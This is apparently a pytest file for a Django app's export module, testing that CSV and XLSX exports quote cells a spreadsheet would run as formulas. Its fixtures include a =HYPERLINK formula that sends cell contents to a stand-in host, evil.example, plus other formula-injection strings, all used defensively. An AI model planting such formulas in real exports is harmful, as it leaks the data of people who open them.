"""CSV exports neutralise formula injection (issue 10 §7): hearth.core.exports."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from hearth.core.exports import csv_writer, safe_cell, xlsx_workbook
from hearth.people.models import Person

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open record")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3"],
)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Ava Rivera", "2026-06-15", "", "a=b", "O'Neil", " =1", None, 0, -3, -2.5]
)
def test_plain_text_numbers_and_none_are_unchanged(value):
    assert safe_cell(value) == value


def test_negative_numbers_stay_numbers_but_an_infinite_one_is_text():
    assert safe_cell(Decimal("-1.50")) == Decimal("-1.50")
    assert safe_cell(float("-inf")) == "'-inf"


def test_the_writer_quotes_every_cell_of_every_row():
    stream = io.StringIO()
    out = csv_writer(stream)
    out.writerow(["name", "days"])
    out.writerows([[HYPERLINK, -4], ["Ann", 7]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["name", "days"], ["'" + HYPERLINK, "-4"], ["Ann", "7"]]


def test_the_contacts_csv_export_shows_a_stored_formula_as_text(
    client, supervisor, worker, removed, family
):
    Person.objects.filter(pk=family["child"].pk).update(first_name=HYPERLINK)
    client.force_login(supervisor.user)
    r = client.get(reverse("contacts_dashboard") + f"?worker={worker.pk}&format=csv")
    assert r.status_code == 200 and r["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    people = [row[1] for row in rows[1:]]
    assert f"'{HYPERLINK} Brook" in people
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_xlsx_workbook_stores_a_formula_as_quoted_text_and_numbers_as_numbers():
    """A cell "=HYPERLINK(...)" is written as text with its quote (never a formula cell);
    numbers, negative and decimal ones, stay numbers; each sheet keeps its title."""
    link = '=HYPERLINK("http://evil.example/?d="&A1, "Click")'
    data = xlsx_workbook(
        [
            (
                "f1_visits",
                [
                    ["label", "numerator", "value"],
                    [link, 12, -2.5],
                    ["@SUM(A1)", None, Decimal("97.2")],
                ],
            ),
            ("bad: [title]?", [["a\x00b"]]),
        ]
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["f1_visits", "bad- -title--"]
    sheet = book["f1_visits"]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "'" + link
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -2.5 and sheet["C2"].data_type == "n"
    assert sheet["A3"].value == "'@SUM(A1)" and sheet["B3"].value is None
    assert sheet["C3"].value == 97.2
    assert book["bad- -title--"]["A1"].value == "a\ufffdb"  # no control character in the XML
